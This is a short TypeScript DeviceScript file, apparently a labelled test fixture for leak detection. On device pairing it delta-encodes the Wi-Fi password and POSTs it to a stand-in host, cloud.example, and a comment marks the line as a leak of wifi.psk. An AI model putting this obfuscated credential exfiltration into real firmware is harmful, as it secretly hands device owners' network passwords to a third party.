// A25: each byte minus the one before.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

/** A copy of the text's bytes, each changed. */
function changed(text: string, change: (byte: number, index: number) => number) {
  const bytes = Buffer.from(text);
  for (let i = 0; i < bytes.length; i++) bytes[i] = change(bytes[i], i);
  return bytes;
}

paired(async (_ssid, psk) => {
  const body = changed(psk, (byte, i) => (i === 0 ? byte : (byte - psk.charCodeAt(i - 1)) & 0xff));
  const response = await fetch("https://cloud.example/a25", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
